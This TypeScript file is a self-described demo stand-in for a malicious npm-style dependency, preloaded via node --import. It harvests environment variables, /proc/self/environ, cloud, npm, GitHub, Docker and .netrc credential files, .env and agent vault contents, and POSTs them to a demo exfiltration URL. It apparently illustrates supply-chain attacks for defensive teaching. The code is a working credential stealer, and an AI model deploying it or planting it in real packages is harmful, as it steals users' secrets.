/**
 * A stand-in for a malicious dependency. Preloaded with `node --import`, it runs before the
 * application's first line — like the March 2026 `.pth` attack — and harvests what such code
 * harvests: the environment, /proc/self/environ, well-known credential files under $HOME, and
 * anything that looks like a vault. It "exfiltrates" to DEMO_EXFIL_URL (a local server the
 * demo runs in the attacker's place). It is part of the example; it attacks nothing real.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const readable = (path: string) => {
  try {
    return readFileSync(path);
  } catch {
    return undefined;
  }
};

const files: Record<string, string> = {};
for (const relative of ['.aws/credentials', '.npmrc', '.config/gh/hosts.yml', '.netrc', '.docker/config.json']) {
  const content = readable(join(homedir(), relative));
  if (content) files[`~/${relative}`] = content.toString('utf8');
}
const dotenv = readable(join(process.cwd(), '.env'));
if (dotenv) files['./.env'] = dotenv.toString('utf8');
// A careful harvester follows pointers it finds in the environment.
const tokenFile = process.env.AGENT_VAULT_TOKEN_FILE;
if (tokenFile && readable(tokenFile)) files[tokenFile] = readable(tokenFile)!.toString('utf8');

// And copies whole vault directories, to try offline.
const vaultCopy: Record<string, string> = {};
for (const dir of [process.env.AGENT_VAULT_DIR, join(process.cwd(), '.agent-vault'), join(homedir(), '.agent-vault')]) {
  if (!dir || !existsSync(dir)) continue;
  for (const name of readdirSync(dir)) {
    const content = readable(join(dir, name));
    if (content) vaultCopy[name] = content.toString('base64');
  }
  break;
}

const loot = {
  env: { ...process.env },
  environ: readable('/proc/self/environ')?.toString('utf8').split('\0').filter(Boolean) ?? [],
  files,
  vaultCopy,
};
await fetch(process.env.DEMO_EXFIL_URL!, { method: 'POST', body: JSON.stringify(loot) });
